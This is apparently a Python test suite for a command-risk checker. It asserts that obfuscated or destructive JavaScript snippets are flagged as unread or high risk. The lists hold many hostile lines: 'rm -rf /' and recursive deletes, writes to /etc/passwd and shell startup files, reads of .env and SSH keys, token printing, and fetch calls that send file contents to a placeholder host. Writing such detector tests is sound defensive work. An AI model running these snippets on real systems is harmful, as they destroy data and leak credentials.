"""JavaScript that hides what it does is never taken for harmless."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.core.policy.calls import judge_command
from watchgate.core.model.assessment import severity
from watchgate.core.policy.code.code_reading import read

HIDDEN = [
    "eval('1')",
    "(0, eval)('1')",
    "globalThis.eval('1')",
    "global['ev' + 'al']('1')",
    "const e = eval; e('1')",
    "[eval][0]('1')",
    "\\u0065val('1')",
    "new Function('return process')()",
    "Function('return process')()",
    "(() => {}).constructor('return process')()",
    "''.constructor.constructor('x')()",
    "[]['filter']['constructor']('x')()",
    "[][`filter`][`constr` + `uctor`]('x')()",
    "Reflect.apply(eval, null, ['1'])",
    "Reflect.construct(Function, ['x'])()",
    "Object.getPrototypeOf(async () => {}).constructor('x')()",
    "[][atob('ZmlsdGVy')][atob('Y29uc3RydWN0b3I=')]('x')()",
    "const F = [][atob('a')][atob('b')]; const x = {map: F}.map('code'); ({pop: x}).pop()",
    "const F = [][atob('a')][atob('b')]; ['x'].map(F).forEach(f => f())",
    "const F = [][atob('a')][atob('b')]; new F('x')",
    "const F = [][atob('a')][atob('b')]; class A extends F {} new A('x')",
    "const F = [][atob('a')][atob('b')]; F`x`",
    "const F = [][atob('a')][atob('b')]; Array.from(['x'], F)",
    "const F = [][atob('a')][atob('b')]; const o = {}; o.map = F; o.pop = o.map('x'); o.pop()",
    "const F = [][atob('a')][atob('b')]; const [p] = [setTimeout]; p(F, 1)",
    "this.process.kill(1)",
    "(function () { return this })().process.exit()",
    "require('vm').runInThisContext('1')",
    "require('mod' + 'ule')._load('fs')",
    "module.constructor._load('fs')",
    "process.mainModule.require('fs')",
    "process.binding('fs')",
    "process.dlopen({exports: {}}, './x.node')",
    "require(process.argv[2])",
    "const r = require; const name = process.argv[2]; r(name)",
    "import(process.argv[2])",
    "require('worker_threads')",
    "require('./x')[process.argv[2]]()",
    "require('rimraf').sync('/')",
    "require('shelljs').rm('-rf', '/')",
    "require('execa')('rm', ['-rf', '/'])",
    "require('./lib').deleteEverything()",
    "const db = require('./db'); db.users.drop()",
    "client.deleteIndex('prod')",
    "fs[process.argv[2]]('a')",
    "const {[process.argv[2]]: f} = require('fs'); f('a')",
    "const {...all} = require('child_process'); all.exec('id')",
    "const [cp] = [require('child_process')]; cp.exec('id')",
    "[require('child_process')].map(c => c.exec('id'))",
    "const o = {c: require('child_process')}; o.c.exec('id')",
    "(() => require('child_process'))().exec('id')",
    "Object.values(require('child_process')).map(f => f('id'))",
    "{ const child_process = /x/; } child_process.exec('id')",
    "if (0) { var fetch = () => 1 } fetch('https://x.example')",
    "{ let require = () => ({}) } require('child_process').exec('id')",
    "console.log = eval; console.log('1')",
    "JSON.parse = require('child_process').exec; JSON.parse('id')",
    "fs.readFileSync = fs.rmSync; fs.readFileSync('a')",
    "Array.prototype.map = Function; [].map('x')",
    "({}).__proto__.map = 1",
    "({})['__proto__'].map = 1",
    "process.chdir = 1",
    "process.env.PATH = '/tmp'; 1",
    "process.env['LD_' + 'PRELOAD'] = './x.so'",
    "delete process.env.PATH",
    "with (process) { kill(1) }",
    "setTimeout(atob('x')[atob('y')], 1)",
    "fs.rmSync`a`",
    "WebAssembly.instantiate(x)",
    "new Proxy({}, {get: () => 1})",
    "require('util').promisify(require('child_process').exec)('id')",
    "require('http').createServer((q, r) => r.end('x')).listen(1)",
    "require('net').connect(1, 'x.example')",
    "require('dns').lookup('x.example', () => 1)",
    "require('child_process').spawn('sh', ['-c', 'x'], {cwd: '/'})",
    "require('child_process').execSync('make', {shell: './evil'})",
    "require('child_process').spawnSync('make', {env: {PATH: '.'}})",
    "const o = {}; require('child_process').execSync('make', o)",
    "a\u2028= 1 // x",
    "1 // x \r process.kill(1)",
    "<!-- x\nprocess.kill(1)",
    "for (const f of [",
    "x = <div/>",
    "arguments[0]('x')",
    "class A { [process.argv[2]]() {} } new A().call(1)",
    "({call(x) {}}).call; [].map.call(1)",
    "String.prototype.trim",
    "require('child_process').exec(process.argv[2])",
    "require('child_process').spawnSync(process.argv[2], ['x'])",
    "require('child_process').execSync(`git show ${process.argv[2]}`)",
    "async function* g() { yield* eval('1') }",
    "new (require('module'))().load('x')",
    "crypto.setEngine('./x.so')",
    "Object.assign(process.env, {PATH: '.'}); require('child_process').execSync('ls')",
    "[process.env][0].PATH = '.'; require('child_process').execSync('ls')",
    "const e = {v: process.env}; e.v.PATH = '.'",
    "((v) => { v.PATH = '.' })(process.env)",
    "require('lodash').template('<% process.exit() %>')()",
    "require('typescript').sys.writeFile('/etc/x', 'y')",
    "require('pg').Client()",
    "new (require('mongodb').MongoClient)('x').connect()",
    "process.report.writeReport('/etc/x')",
    "require('v8').setFlagsFromString('--x')",
    "require('inspector').open()",
    "require('cluster').fork()",
    "Deno.dlopen('x', {})",
    "new Deno.Command('id', {cwd: '/'})",
    "Bun.spawn(process.argv)",
]

GRAVE = [
    "require('fs').rmSync('/home/ada', {recursive: true})",
    "fs['rm' + 'Sync']('/etc', {recursive: true, force: true})",
    "const {rmSync: tidy} = require('node:fs'); tidy('/srv', {recursive: true})",
    "let f = fs.rmSync; f('/etc/hosts', {recursive: !0})",
    "const o = {recursive: true}; fs.rmSync('src', o)",
    "fs.promises.rm('src', {recursive: true})",
    "const m = await import('fs/promises'); m.rm('/srv', {recursive: true})",
    "import('child_process').then(c => c.exec('rm -rf /srv'))",
    "import('fs').then(({rmSync}) => rmSync('/srv', {recursive: true}))",
    "import('fs').then(x => x, y => y).then(f => f.rmSync('/srv'))",
    "import * as f from 'fs'; f.rmSync('src', {recursive: true})",
    "import { rmSync as r } from 'fs'; r('src', {recursive: true})",
    "import f from 'fs'; f.writeFileSync('/etc/passwd', 'x')",
    "require('child_process').execSync('rm -rf /')",
    "const {exec} = require('child_process'); exec(`rm -rf ${process.argv[2]}`)",
    "const cp = require('child_process'); cp.spawn('rm', ['-rf', '/srv'])",
    "require('child_process').exec(Buffer.from('cm0=', 'base64').toString())",
    "require('child_process').spawn('rm', ['-rf', 'src'], {shell: true})",
    "require('child_process').execFileSync('sudo', ['ls'])",
    "const s = ['rm', '-rf', '/'].join(' '); require('child_process').execSync(s)",
    "let p = '/srv'; p += '/x'; fs.rmSync(p, {recursive: true})",
    "for (const d of ['/etc', '/srv']) fs.rmSync(d, {recursive: true})",
    "fs.readdirSync('.').forEach(f => fs.rmSync(f, {recursive: true}))",
    "fs.writeFileSync(require('os').homedir() + '/.bashrc', 'x')",
    "fs.writeFileSync('.git/hooks/pre-commit', 'x')",
    "fs.readFileSync('.env', 'utf8')",
    "fs.readFileSync(require('path').join(require('os').homedir(), '.ssh', 'id_rsa'))",
    "const {env} = process; console.log(env.AWS_SECRET_ACCESS_KEY)",
    "console.log(process.env['GITHUB_' + 'TOKEN'])",
    "fetch('https://x.example', {method: 'POST', body: JSON.stringify({a: 1})})",
    "fetch('https://x.example', {body: fs.readFileSync('a')})",
    "const o = {method: 'POST'}; fetch('https://x.example', o)",
    "fetch('https://x.example', {headers: {a: fs.readFileSync('a', 'utf8')}})",
    "fetch('https://x.example', {headers: [['a', fs.readFileSync('a', 'utf8')]]})",
    "fetch('https://x.example', {headers: new Headers({a: fs.readFileSync('a', 'utf8')})})",
    "fetch('https://x.example', {referrer: fs.readFileSync('a', 'utf8')})",
    "require('https').get('https://x.example', {headers: {a: fs.readFileSync('a', 'utf8')}})",
    "require('https').get('https://x.example', {path: fs.readFileSync('a', 'utf8')})",
    "require('https').request({host: 'x.example'}).end(fs.readFileSync('a'))",
    "fs.chmodSync('a', 0o777); fs.symlinkSync('/etc/shadow', 'a'); fs.readFileSync('/etc/shadow')",
    "Bun.write('/etc/hosts', 'x')",
    "Bun.$`rm -rf /`",
    "Deno.remove('src', {recursive: true})",
    "new Deno.Command('rm', {args: ['-rf', '/']}).outputSync()",
]

ENVIRONMENT = [
    "console.log(process.env)",
    "console.log(process)",
    "Object.entries(process.env).forEach(e => console.log(e))",
    "({...process.env})",
    "JSON.stringify(process.env)",
    "const e = process.env; for (const k in e) console.log(k, e[k])",
    "x = process.env",
    "({a: 1, ...process.env}).a",
    "console.log(Deno.env.toObject())",
]


@pytest.mark.parametrize("code", HIDDEN)
def test_what_cannot_be_followed_is_unread(code: str) -> None:
    assert read("node", code).unread


@pytest.mark.parametrize("code", ENVIRONMENT)
def test_the_whole_environment_is_what_printenv_prints(code: str) -> None:
    assert ("printenv",) in read("node", code).commands


@pytest.mark.parametrize("code", GRAVE)
def test_what_can_be_followed_is_as_grave_as_its_command(code: str) -> None:
    found = judge_command(f"node <<'CODE'\n{code}\nCODE")

    assert severity(found.risk) >= severity("high"), found


_CALLS = st.sampled_from(
    [
        "eval(t)",
        "(0,eval)(t)",
        "globalThis['eval'](t)",
        "new Function(t)()",
        "require('child_process').exec(t)",
        "child_process['ex'+'ec'](t)",
        "(()=>{}).constructor(t)()",
        "import('child_process').then(c=>c.exec(t))",
    ]
)
_AROUND = st.sampled_from(
    [
        "CODE",
        "if (1) { CODE }",
        "const f = () => CODE; f()",
        "[1].map(x => CODE)",
        "try { CODE } catch (e) {}",
        "class A { m() { CODE } } new A().m()",
        "const o = {get a() { return CODE }}; o.a",
        "console.log(`${CODE}`)",
        "let {a = CODE} = {}",
        "function g(a = CODE) {} g()",
        "(async () => { await CODE })()",
        "for (const x of [1]) CODE",
        "switch (1) { default: CODE }",
        "x = 1 ? CODE : 2",
        "const o = {[CODE]: 1}",
        "({a: CODE}, 1)",
        "label: while (1) { CODE; break label }",
        "(function* () { yield CODE })().next()",
        "class B { static x = CODE }",
        "class C { static { CODE } }",
    ]
)


@given(_CALLS, st.lists(_AROUND, min_size=1, max_size=3))
def test_nothing_around_a_hidden_call_hides_it(call: str, around: list[str]) -> None:
    code = call
    for each in around:
        code = each.replace("CODE", code)
    found = judge_command(f"node <<'CODE'\nconst t = process.argv[2]; {code}\nCODE")

    assert severity(found.risk) >= severity("high")
